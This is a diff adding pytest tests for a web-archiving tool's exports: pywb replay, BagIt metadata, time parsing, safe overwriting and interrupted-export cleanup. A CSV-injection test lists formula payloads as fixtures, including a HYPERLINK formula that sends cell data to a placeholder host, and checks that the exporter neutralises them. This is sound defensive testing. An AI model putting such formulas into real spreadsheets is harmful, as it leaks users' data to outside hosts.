@@ -8,6 +8,7 @@ import csv
 import hashlib
 import json
 import os
+import shutil
 import socket
 import sqlite3
 import subprocess
@@ -314,6 +315,80 @@ def _get(url: str, server, wait: float = 30) -> tuple[int, bytes]:
             time.sleep(0.3)
 
 
+@pytest.fixture(scope="module")
+def noise_archive(tmp_path_factory):
+    """Three crawls a second apart: X edited before the second, every page rebuilt (noise only)
+    before the third.  Listing pages and the third visit's notice pages (and Y's 304 between)
+    are captures whose bytes were not kept."""
+    tmp = tmp_path_factory.mktemp("noise")
+    site = DistrictSite(style="trs", page_size=10)
+    x = site.add("关于道路施工的通知", "2021-09-02 09:00", body=["施工期间请绕行。"])
+    y = site.add("关于开展安全检查的通知", "2021-09-03 09:00", body=["请各单位做好准备。"])
+    db = tmp / "n.db"
+    with serve_site(site, host="127.0.0.1", port=0) as srv:
+        listing = site.listing_url(srv.base)
+        for change in (None, lambda: site.edit(x, body=["施工期间请绕行（更正）。"]), site.rebuild):
+            if change:
+                time.sleep(1.02 - time.time() % 1)  # CDXJ keys have whole seconds
+                change()
+            code, _, p = crawl(listing, db)
+            assert code == 0, p.stderr
+        urls = [listing, srv.base + site.path(x), srv.base + site.path(y)]
+    return {"db": db, "tmp": tmp, "urls": urls}
+
+
+def test_every_replay_route_shows_the_newest_kept_bytes(noise_archive, tmp_path):
+    """The README's route (tzgg's CDXJ), and pywb indexing the WARC and the WACZ itself: a
+    capture whose bytes were not kept is never replayed as the page (its `metadata` record
+    targets a urn:), so each visit replays the newest bytes kept by then."""
+    db = noise_archive["db"]
+    warc, wacz = tmp_path / "n.warc.gz", tmp_path / "n.wacz"
+    for fmt, out in (("warc", warc), ("wacz", wacz)):
+        p = tzgg("export", "--db", db, "--format", fmt, "-o", out)
+        assert p.returncode == 0, p.stderr
+    metadata = [r[1] for r in warc_records(warc) if r[0] == "metadata"]
+    # three listings, two noise-only pages and one 304's answer
+    assert len(metadata) == 6 and all(u.startswith("urn:tzgg:capture:") for u in metadata)
+    root = tmp_path / "pywb"
+    readme = root / "collections" / "readme"
+    (readme / "archive").mkdir(parents=True)
+    (readme / "indexes").mkdir()
+    shutil.copy(warc, readme / "archive" / warc.name)
+    shutil.copy(f"{warc}.cdxj", readme / "indexes" / "index.cdxj")
+    manager = _wayback().with_name("wb-manager")
+    for coll, files in (("warc", [warc]), ("wacz", ["--unpack-wacz", wacz])):
+        for args in (["init", coll], ["add", coll, *files]):
+            done = subprocess.run([manager, *args], cwd=root, capture_output=True, text=True)
+            assert done.returncode == 0, done.stderr
+    port = _free_port()
+    server = subprocess.Popen(
+        [_wayback(), "-p", str(port), "-b", "127.0.0.1", "-d", root],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+    )
+    conn = sqlite3.connect(db)
+    visits = conn.execute(
+        "SELECT c.url, c.at, (SELECT k.body_sha256 FROM captures k JOIN bodies b"
+        " ON b.sha256 = k.body_sha256 WHERE k.url = c.url AND k.at <= c.at AND k.status = 200"
+        " ORDER BY k.at DESC LIMIT 1) FROM captures c ORDER BY c.id"
+    ).fetchall()
+    assert {u for u, *_ in visits} == set(noise_archive["urls"]) and len(visits) == 9
+    try:
+        for coll in ("readme", "warc", "wacz"):
+            for url, at, sha in visits:
+                ts = at[:19].replace("-", "").replace(":", "").replace("T", "")
+                got = _get(f"http://127.0.0.1:{port}/{coll}/{ts}id_/{url}", server)
+                want = (200, stored(db, sha)) if sha else 404
+                assert (got if sha else got[0]) == want, f"{coll}: {url} at {at}"
+            host = url.split("/")[2]
+            _, cdx = _get(f"http://127.0.0.1:{port}/{coll}/cdx?url={host}/*&output=json", server)
+            mimes = {json.loads(line)["mime"] for line in cdx.splitlines()}
+            assert mimes <= {"text/html", "warc/revisit"}, coll  # never the JSON
+    finally:
+        server.terminate()
+        server.wait(10)
+
+
 def test_bagit_bag_validates_and_names_what_it_holds(archive, tmp_path):
     bag = tmp_path / "bag"
     p = export(archive, "--as-of", archive["t2"], "--format", "bagit", "-o", bag)
@@ -325,6 +400,7 @@ def test_bagit_bag_validates_and_names_what_it_holds(archive, tmp_path):
     info = (bag / "bag-info.txt").read_text(encoding="utf-8")
     assert f"Tzgg-As-Of: {archive['t2']}" in info and "Tzgg-Version: " in info
     assert "Tzgg-Sites: 127.0.0.1:" in info
+    assert "Source-Organization" not in info  # no keeper given: not the sites, not made up
     assert (bag / "manifest-sha256.txt").is_file()
     data = bag / "data"
     assert (data / "tzgg.warc.gz").is_file() and (data / "tzgg.warc.gz.cdxj").is_file()
@@ -345,9 +421,12 @@ def test_bagit_bag_validates_and_names_what_it_holds(archive, tmp_path):
 
 def test_redacted_bag_says_so_and_leaves_the_original_bytes_out(archive, tmp_path):
     bag = tmp_path / "bag"
-    p = export(archive, "--as-of", archive["t1"], "--format", "bagit", "-o", bag, "--redact")
+    contact = ("-s", "TZGG_CONTACT=watch@example.org")  # the keeper, without TZGG_OWNER
+    at = archive["t1"]
+    p = export(archive, "--as-of", at, "--format", "bagit", "-o", bag, "--redact", *contact)
     assert p.returncode == 0, p.stderr
-    assert "Tzgg-Redacted: " in (bag / "bag-info.txt").read_text(encoding="utf-8")
+    info = (bag / "bag-info.txt").read_text(encoding="utf-8")
+    assert "Tzgg-Redacted: " in info and "Source-Organization: watch@example.org\n" in info
     text = (bag / "data" / "notices.jsonl").read_text(encoding="utf-8")
     assert ID_NUMBER not in text and MOBILE not in text
     assert not (bag / "data" / "tzgg.warc.gz").exists()
@@ -376,6 +455,8 @@ def test_wacz_opens_with_pages_index_and_warc(archive, tmp_path):
         (["--format", "jsonl", "-o", "x.jsonl", "--site", "nowhere"], "no site 'nowhere'"),
         (["--format", "tar", "-o", "x"], "Invalid value"),
         (["--format", "jsonl", "-o", "missing/x.jsonl"], "does not exist"),
+        (["--format", "jsonl", "-o", "x.jsonl", "--raw-csv"], "--raw-csv applies"),
+        (["--format", "jsonl", "-o", "x.jsonl", "-s", "TZGG_0WNER=me"], "reads only TZGG_OWNER"),
     ],
 )
 def test_bad_export_input_gets_a_one_line_error(archive, tmp_path, args, message):
@@ -411,6 +492,9 @@ def test_a_year_or_month_as_of_means_its_end():
     assert parse_user_time("2021", end_of_day=True) == "2021-12-31T15:59:59.999Z"
     assert parse_user_time("2021-09", end_of_day=True) == "2021-09-30T15:59:59.999Z"
     assert parse_user_time("2021-09") == "2021-08-31T16:00:00.000Z"
+    # +08:00 for every date: not 1900's local mean time (+08:05:43), nor 1988's summer time
+    assert parse_user_time("1900-01-01") == "1899-12-31T16:00:00.000Z"
+    assert parse_user_time("1988-07-01T12:00") == "1988-07-01T04:00:00.000Z"
     for bad in ("2021-W39", "20210930", "2021-02-30", "2021-13"):
         with pytest.raises(ValueError):
             parse_user_time(bad)
@@ -434,3 +518,148 @@ def test_warc_headers_are_the_bytes_received():
     assert b"X-Tzgg-Orig-Content-Length: 9\r\n" in h.headers_buff
     assert b"Content-Length: 20\r\n" in h.headers_buff
     assert b"X-Tzgg-Orig-Content-Encoding: gzip\r\n" in h.headers_buff
+
+
+# -- issue 15: formulas in CSV, counts, the bag's owner, the future, what an export replaces ---
+
+
+def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path):
+    """A text cell starting with = + - @ tab or CR gets a leading ' (OWASP), so a spreadsheet
+    shows it instead of running it; numbers are values, left alone; --raw-csv and JSONL keep
+    the text as archived."""
+    from archive.export import write_csv
+    from tests.test_store import crawl as store
+    from tests.test_store import fetch, notice
+
+    titles = ['=HYPERLINK("http://x.invalid/?"&A1,"点击")', "+86 公告", "-1 公告", "@SUM(A1)"]
+    titles += ["\t=1+1 公告", "\r=1+1 公告", "'引号开头的公告", "关于 =1+1 的公告"]
+    db = tmp_path / "a.db"
+    store(db, [fetch(n, notice=notice(n, title=t)) for n, t in enumerate(titles, 1)])
+
+    def exported(*extra) -> list[str]:
+        out = tmp_path / "out.csv"
+        p = tzgg("export", "--db", db, "--format", "csv", "-o", out, "--force", *extra)
+        assert p.returncode == 0, p.stderr
+        with open(out, encoding="utf-8-sig", newline="") as fh:
+            rows = sorted(csv.DictReader(fh), key=lambda r: r["url"])
+        return [r["title"] for r in rows]
+
+    assert exported() == ["'" + t for t in titles[:6]] + titles[6:]
+    assert exported("--raw-csv") == titles
+    p = tzgg("export", "--db", db, "--format", "jsonl", "-o", tmp_path / "o.jsonl")
+    assert p.returncode == 0, p.stderr
+    lines = (tmp_path / "o.jsonl").read_text(encoding="utf-8").splitlines()
+    assert {json.loads(line)["title"] for line in lines} == set(titles)
+    # every text column, lists and objects too; a number (an int) is a value, never a formula
+    rec = {"version": -3, "doc_number": "-3", "breadcrumb": ["=x", "y"], "contact": {"a": 1}}
+    rec["attachments"] = [{"name": "@a.pdf", "url": "http://x/a.pdf"}]
+    with open(tmp_path / "one.csv", "w", newline="") as fh:
+        write_csv([rec], fh)
+    [row] = csv.DictReader((tmp_path / "one.csv").read_text().splitlines(keepends=True))
+    assert row["version"] == "-3" and row["doc_number"] == "'-3"
+    assert row["breadcrumb"] == "'=x | y" and row["contact"] == '{"a": 1}'
+    assert row["attachments"] == "'@a.pdf <http://x/a.pdf>"
+
+
+def test_history_counts_versions_and_notices_and_the_bag_names_its_owner(archive, tmp_path):
+    at = archive["t2"]
+    p = export(archive, "--as-of", at, "--format", "jsonl", "--history", "-o", tmp_path / "h")
+    assert p.returncode == 0, p.stderr
+    assert "(5 notices, 6 versions)" in p.stdout
+    bag = tmp_path / "bag"
+    owner = ("-s", "TZGG_OWNER=岳阳市政务公开观察组", "-s", "TZGG_CONTACT=w@example.org")
+    p = export(archive, "--as-of", at, "--format", "bagit", "-o", bag, "--history", *owner)
+    assert p.returncode == 0, p.stderr
+    assert "(5 notices, 6 versions" in p.stdout
+    info = (bag / "bag-info.txt").read_text(encoding="utf-8")
+    assert "Source-Organization: 岳阳市政务公开观察组\n" in info
+    assert "Tzgg-Notices: 5\n" in info and "Tzgg-Versions: 6\n" in info
+    assert "Tzgg-Sites: 127.0.0.1:" in info
+
+
+def test_a_future_as_of_means_now_with_a_warning(archive, tmp_path):
+    from datetime import datetime
+
+    from archive.timeutil import SHANGHAI
+
+    for as_of, warned in (("2999-01-01", True), (str(datetime.now(SHANGHAI).date()), False)):
+        out = tmp_path / "x.jsonl"
+        p = export(archive, "--as-of", as_of, "--format", "jsonl", "-o", out, "--force", "--json")
+        assert p.returncode == 0, p.stderr
+        assert json.loads(p.stdout)["as_of"] <= utcnow()
+        assert len(out.read_text(encoding="utf-8").splitlines()) == 5
+        if warned:
+            assert p.stderr.startswith("tzgg: warning: --as-of 2999-01-01 is in the future")
+            assert len(p.stderr.splitlines()) == 1
+        else:
+            assert p.stderr == ""
+
+
+def test_an_export_refuses_before_any_work_what_it_would_destroy(archive, tmp_path):
+    # an OUTPUT.partial it did not make (an interrupted export's, or someone's): --force only
+    for fmt, name in (("jsonl", "x.jsonl"), ("bagit", "bag")):
+        partial = tmp_path / f"{name}.partial"
+        partial.mkdir()
+        (partial / "notes.txt").write_text("keep me")
+        p = export(archive, "--format", fmt, "-o", tmp_path / name, "--redact")
+        assert p.returncode == 2 and f"{name}.partial exists" in p.stderr, p.stderr
+        assert (partial / "notes.txt").read_text() == "keep me"
+        p = export(archive, "--format", fmt, "-o", tmp_path / name, "--redact", "--force")
+        assert p.returncode == 0, p.stderr
+        assert not partial.exists()
+    # a bag onto a symbolic link to a folder: refused at once, the folder untouched
+    (tmp_path / "real").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "real")
+    p = export(archive, "--format", "bagit", "-o", tmp_path / "link")
+    assert p.returncode == 2 and "symbolic link" in p.stderr and "Traceback" not in p.stderr
+    assert list((tmp_path / "real").iterdir()) == [] and not (tmp_path / "link.partial").exists()
+
+
+_STALLED_WACZ = """
+import sys, time, wacz.main
+from pathlib import Path
+from crawler.cli import main
+
+def stall(args):  # the packaging step, held: the staging folder is full by now
+    Path(sys.argv[3]).write_text("staged")
+    time.sleep(120)
+
+wacz.main.main = stall
+main(["export", "--db", sys.argv[1], "--format", "wacz", "-o", sys.argv[2]])
+"""
+
+
+def test_an_interrupted_wacz_export_leaves_no_staging_folder(archive, tmp_path):
+    """SIGINT and SIGTERM unwind the export (its staging folder and .partial go); what a
+    SIGKILL leaves, the next export sweeps, sparing the folder of an export still at work."""
+    import fcntl
+    import signal
+
+    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
+    out, marker = tmp_path / "a.wacz", tmp_path / "marker"
+    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
+        marker.unlink(missing_ok=True)
+        cmd = [sys.executable, "-c", _STALLED_WACZ, archive["db"], out, marker]
+        proc = subprocess.Popen(cmd, env=env, stderr=subprocess.PIPE, text=True)
+        deadline = time.monotonic() + 60
+        while not marker.exists():
+            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr.read()
+            time.sleep(0.02)
+        proc.send_signal(sig)
+        _, err = proc.communicate(timeout=30)
+        assert proc.returncode != 0 and "Traceback" not in err, err
+        staged = list(tmp_path.glob(".tzgg-wacz-*"))
+        if sig != signal.SIGKILL:
+            assert len([line for line in err.splitlines() if line]) == 1, err
+            assert staged == [] and not out.exists() and not Path(f"{out}.partial").exists()
+    assert len(staged) == 1  # killed: nothing could remove it
+    busy = tmp_path / ".tzgg-wacz-busy"
+    busy.mkdir()
+    fd = os.open(busy / "lock", os.O_RDWR | os.O_CREAT)
+    fcntl.flock(fd, fcntl.LOCK_EX)  # another export, at work
+    try:
+        p = export(archive, "--format", "wacz", "-o", out)
+        assert p.returncode == 0, p.stderr
+        assert list(tmp_path.glob(".tzgg-wacz-*")) == [busy]
+    finally:
+        os.close(fd)
